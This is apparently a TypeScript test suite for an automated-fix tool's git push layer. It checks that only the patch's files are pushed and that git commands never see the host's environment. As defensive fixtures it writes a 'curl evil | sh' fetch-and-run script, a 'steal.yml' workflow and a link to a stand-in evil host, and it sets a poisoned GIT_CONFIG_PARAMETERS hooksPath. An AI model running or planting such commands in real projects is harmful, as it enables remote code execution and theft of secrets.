import assert from "node:assert/strict";
import { execFile, execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { hostGitEnv } from "../../src/core/git-env.ts";
import {
  applyPatch,
  commitAndPush,
  diffPaths,
  remoteBranchHead,
  shallowClone,
} from "../../src/github/git.ts";
import { git as localGit, prepareLocalRemote } from "../../src/github/local-remote.ts";
import { type GitServer, startGitServer } from "../support/git-server.ts";
import { tempDir } from "../support/temp.ts";

// The host's git commands: what is pushed is exactly the validated patch, and no git command the host
// runs sees the host's environment (secrets, GIT_* variables, HOME's configuration).

const TOKEN = "ghs_push_token";
const PATCH = [
  "diff --git a/calc.py b/calc.py",
  "--- a/calc.py",
  "+++ b/calc.py",
  "@@ -1,2 +1,2 @@",
  " def add(a, b):",
  "-    return a - b",
  "+    return a + b",
  "",
].join("\n");

let server: GitServer;
before(async () => {
  server = await startGitServer();
  server.tokens.add(TOKEN);
});
after(() => server.close());

const author = { name: "auto-fix", email: "auto-fix@example.com" };

test("only the patch's files are pushed: a changed and an untracked file of the clone stay out", async () => {
  const url = server.createRepo("o/push-exact", {
    "calc.py": "def add(a, b):\n    return a - b\n",
    "README.md": "# calc\n",
  });
  const dir = join(tempDir("auto-fix-push-"), "repo");
  await shallowClone({ url, dir, token: TOKEN });
  // What a hostile step could leave in the clone besides the patch.
  writeFileSync(join(dir, "README.md"), "# calc\n\n[run me](https://evil.example)\n");
  mkdirSync(join(dir, ".github", "workflows"), { recursive: true });
  writeFileSync(join(dir, ".github", "workflows", "steal.yml"), "on: push\n");
  writeFileSync(join(dir, "extra.sh"), "curl evil | sh\n");
  await applyPatch(dir, PATCH);
  const pushed = await commitAndPush({
    dir,
    url,
    token: TOKEN,
    branch: "auto-fix/issue-1",
    message: "Fix #1\n",
    author,
    force: true,
    paths: diffPaths(PATCH),
  });
  assert.deepEqual(pushed.files, ["calc.py"]);
  const names = server.git("o/push-exact", ["show", "--name-only", "--format=", "auto-fix/issue-1"]).trim();
  assert.equal(names, "calc.py");
  const tree = server.git("o/push-exact", ["ls-tree", "-r", "--name-only", "auto-fix/issue-1"]).trim();
  assert.deepEqual(tree.split("\n").sort(), ["README.md", "calc.py"]);
  assert.equal(server.git("o/push-exact", ["show", "auto-fix/issue-1:README.md"]), "# calc\n");
  assert.match(server.git("o/push-exact", ["show", "auto-fix/issue-1:calc.py"]), /a \+ b/);
});

test("a path outside the repository is never committed; a patch that changed nothing is refused", async () => {
  const url = server.createRepo("o/push-bad", { "calc.py": "x = 1\n" });
  const dir = join(tempDir("auto-fix-push-"), "repo");
  await shallowClone({ url, dir, token: TOKEN });
  writeFileSync(join(dir, "other.py"), "y = 2\n");
  const base = { dir, url, token: TOKEN, branch: "b", message: "m\n", author, force: true };
  await assert.rejects(commitAndPush({ ...base, paths: ["../x"] }), /not a path inside the repository/);
  await assert.rejects(commitAndPush({ ...base, paths: ["calc.py"] }), /nothing to commit/);
});

/** Runs `git apply` the way the host did before: with the host's whole environment. */
function applyWithHostEnv(dir: string, patch: string): Promise<void> {
  return new Promise((resolve) => {
    const child = execFile("git", ["apply", "-"], { cwd: dir, env: process.env }, () => resolve());
    child.stdin?.end(patch);
  });
}

test("git apply and the local remote's git see none of the host's variables (poisoned GIT_* and a secret)", async () => {
  const root = tempDir("auto-fix-gitenv-");
  const dir = join(root, "repo");
  const trace = join(root, "trace.log");
  mkdirSync(dir);
  execFileSync("git", ["init", "-q"], { cwd: dir, env: hostGitEnv() });
  writeFileSync(join(dir, "calc.py"), "def add(a, b):\n    return a - b\n");
  const poison: Record<string, string> = {
    GIT_TRACE: trace,
    GIT_CONFIG_PARAMETERS: "'core.hooksPath'='/tmp/evil-hooks'",
    GIT_CONFIG_GLOBAL: join(root, "evil-gitconfig"),
    HOST_SECRET: "s3cr3t-host-value",
  };
  const saved = { ...process.env };
  Object.assign(process.env, poison);
  try {
    // The control: with the host's environment git obeys the poison (it traces what it runs).
    await applyWithHostEnv(dir, "not a patch\n");
    assert.ok(existsSync(trace), "the control did not trace: the test proves nothing");
    writeFileSync(trace, "");

    await applyPatch(dir, PATCH);
    assert.match(readFileSync(join(dir, "calc.py"), "utf8"), /a \+ b/, "the patch reached its own tree");
    const bare = join(root, "bare.git");
    execFileSync("git", ["add", "-A"], { cwd: dir, env: hostGitEnv() });
    execFileSync("git", ["-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "x"], {
      cwd: dir,
      env: hostGitEnv(),
    });
    await prepareLocalRemote(dir, bare);
    assert.equal((await localGit(bare, ["rev-parse", "--is-bare-repository"])).toString().trim(), "true");
    assert.equal(readFileSync(trace, "utf8"), "", "git traced: it saw GIT_TRACE");
    // What every host git command gets: nothing of the host's but fixed values.
    const env = hostGitEnv();
    for (const [k, v] of Object.entries(poison)) assert.notEqual(env[k], v, k);
    assert.ok(!JSON.stringify(env).includes("s3cr3t-host-value"));
    assert.notEqual(env.HOME, saved.HOME);
    assert.equal(env.GIT_CONFIG_GLOBAL, "/dev/null");
    assert.equal(env.GIT_CONFIG_NOSYSTEM, "1");
  } finally {
    for (const k of Object.keys(poison)) delete process.env[k];
    Object.assign(process.env, saved);
  }
});

test("commit and push of a change in a repository of large files: the worker's memory does not grow with them", async () => {
  // 3 × 16 MB of random (incompressible) text beside a small file the change touches.
  const big = (seed: number) => randomBytes(12 * 1024 * 1024).toString("base64") + String(seed);
  const url = server.createRepo("o/push-large", {
    "calc.py": "def add(a, b):\n    return a - b\n",
    "data/a.bin": big(1),
    "data/b.bin": big(2),
    "data/c.bin": big(3),
  });
  const dir = join(tempDir("auto-fix-push-large-"), "repo");
  await shallowClone({ url, dir, token: TOKEN });
  await applyPatch(dir, PATCH);
  global.gc?.();
  const before = process.memoryUsage().rss;
  let peak = before;
  const timer = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage().rss);
  }, 5);
  try {
    const pushed = await commitAndPush({
      dir,
      url,
      token: TOKEN,
      branch: "auto-fix/issue-2",
      message: "Fix #2\n",
      author,
      force: false,
      paths: diffPaths(PATCH),
    });
    assert.deepEqual(pushed.files, ["calc.py"]);
  } finally {
    clearInterval(timer);
  }
  peak = Math.max(peak, process.memoryUsage().rss);
  const grewMb = (peak - before) / (1024 * 1024);
  console.log(`worker RSS during commit and push with 48 MB of files: +${grewMb.toFixed(1)} MB`);
  assert.ok(grewMb < 30, `the worker grew by ${grewMb.toFixed(1)} MB while committing and pushing`);
  // What was pushed: the large files as they were, the change on top, one commit.
  assert.equal(server.git("o/push-large", ["rev-list", "--count", "main..auto-fix/issue-2"]).trim(), "1");
  assert.equal(
    server.git("o/push-large", ["rev-parse", "main:data/a.bin"]),
    server.git("o/push-large", ["rev-parse", "auto-fix/issue-2:data/a.bin"]),
  );
  assert.match(server.git("o/push-large", ["show", "auto-fix/issue-2:calc.py"]), /a \+ b/);
  assert.equal(
    server.git("o/push-large", ["log", "-1", "--format=%an <%ae>%n%B", "auto-fix/issue-2"]),
    "auto-fix <auto-fix@example.com>\nFix #2\n\n",
  );
});

test("a push the remote refuses says why; the remote's branch head is read without fetching", async () => {
  const url = server.createRepo("o/push-refused", { "calc.py": "def add(a, b):\n    return a - b\n" });
  /** A job's clone with the patch applied (each attempt is a job of its own). */
  const patched = async (): Promise<string> => {
    const dir = join(tempDir("auto-fix-push-refused-"), "repo");
    await shallowClone({ url, dir, token: TOKEN });
    await applyPatch(dir, PATCH);
    return dir;
  };
  assert.equal(await remoteBranchHead({ url, token: TOKEN, branch: "auto-fix/issue-3" }), null);
  // Someone else's commit on the branch first: a push without force is refused, naming why.
  const theirs = server.commitFiles("o/push-refused", "auto-fix/issue-3", { "other.py": "x = 1\n" }, "main");
  assert.equal(await remoteBranchHead({ url, token: TOKEN, branch: "auto-fix/issue-3" }), theirs);
  const base = { url, token: TOKEN, branch: "auto-fix/issue-3", message: "Fix #3\n", author };
  await assert.rejects(
    commitAndPush({ ...base, dir: await patched(), force: false, paths: diffPaths(PATCH) }),
    /^Error: push rejected: .*(fetch first|non-fast-forward)/,
  );
  // A wrong token: git's own words, never the token.
  const dir = await patched();
  const bad = await commitAndPush({
    ...base,
    dir,
    token: "ghs_wrong",
    force: true,
    paths: diffPaths(PATCH),
  }).then(
    () => null,
    (e: Error) => e,
  );
  assert.ok(bad, "a push with a wrong token fails");
  assert.doesNotMatch(bad.message, /ghs_wrong/);
  // With force (a retry replaces its earlier commit) the push goes through.
  const pushed = await commitAndPush({ ...base, dir: await patched(), force: true, paths: diffPaths(PATCH) });
  assert.equal(await remoteBranchHead({ url, token: TOKEN, branch: "auto-fix/issue-3" }), pushed.commit);
});
